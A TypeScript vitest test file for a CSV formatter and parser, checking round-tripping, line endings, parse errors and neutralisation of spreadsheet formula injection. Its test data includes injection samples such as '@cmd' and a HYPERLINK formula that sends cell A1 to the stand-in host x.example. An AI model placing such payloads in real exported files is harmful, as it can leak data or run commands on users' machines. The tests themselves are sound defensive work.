import { describe, expect, it } from 'vitest';
import { formatCsv, parseCsv } from '../../../client/sdk/csv.js';

const cells = (text: string) => {
  const parsed = parseCsv(text);
  return parsed.ok ? parsed.value.map((record) => record.cells) : parsed.error;
};

describe('a table', () => {
  it('comes back as it was written, whatever stands in its cells', () => {
    const rows = [
      ['plain', 'with, comma', 'with "quotes"', ''],
      ['two\nlines', '=SUM(A1)', '-x', '@cmd'],
      ['Ünï', ' spaced ', '+1', '\t'],
      ['＝1', '  =1', ' -', '; ＠x'],
      ['one; =two', 'Office;=HYPERLINK("x")', 'tab\t@x', 'line\n-1; +2'],
    ];
    expect(cells(formatCsv(rows))).toEqual(rows);
  });

  it('is written so that a spreadsheet runs no cell as a formula', () => {
    expect(formatCsv([['=1+1', '+1', '-1', '@A1', 'a=1']])).toBe("'=1+1,'+1,'-1,'@A1,a=1");
    // as wide as a Japanese letter, which some take for the same; and behind blanks, which some leave out
    expect(formatCsv([['＝1', '＠A1', ' =1', 'a; ＋1', 'a＝1']])).toBe("'＝1,'＠A1, '=1,a; '＋1,a＝1");
  });

  it('is run as a formula nowhere where a semicolon or a tab separates cells and our quotes count for nothing', () => {
    const text = formatCsv([['VG-FIX; Office;=HYPERLINK("https://x.example/?"&A1)', 'a\t@x', 'b\n+1', 'c; -2', 'a=1;b']]);
    expect(text.split(/[;\t\n,]/).filter((cell) => /^ *[=+\-@]/.test(cell))).toEqual([]);
    expect(text).toContain('a=1;b');
  });

  it('has a digest as every other program has it, alone in its cell or among others', () => {
    const [ours, none] = [`-${'Ab_9-'.repeat(8)}xy`, `-${'a'.repeat(43)}`];
    expect(formatCsv([[ours, `x; ${ours}`, `${ours}; ${ours}`]])).toBe(`${ours},x; ${ours},${ours}; ${ours}`);
    expect(formatCsv([[none, `${ours}(1)`, `=${ours}`, `${ours} (VG-FIX)`]])).toBe(`'${none},'${ours}(1),'=${ours},'${ours} (VG-FIX)`);
    expect(cells(formatCsv([[ours, none]]))).toEqual([[ours, none]]);
  });

  it('is read with either line end, with a byte-order mark, and without blank lines', () => {
    expect(cells('\ufeffa,b\r\nc,d\n\ne,')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
      ['e', ''],
    ]);
    expect(cells('')).toEqual([]);
  });

  it('says where each record begins, also behind one that runs over lines', () => {
    const parsed = parseCsv('a\n"b\nc"\n\nd');
    expect(parsed.ok && parsed.value.map(({ line }) => line)).toEqual([1, 2, 5]);
  });

  it.each([
    ['a quote within a plain cell', 'a\nb"c', 'line 2'],
    ['text behind a closing quote', '"a"b', 'line 1'],
    ['a quote that is never closed', 'a\n\n"b', 'line 3'],
  ])('is not read where there is %s', (_, text, line) => {
    expect(cells(text)).toContain(line);
  });
});
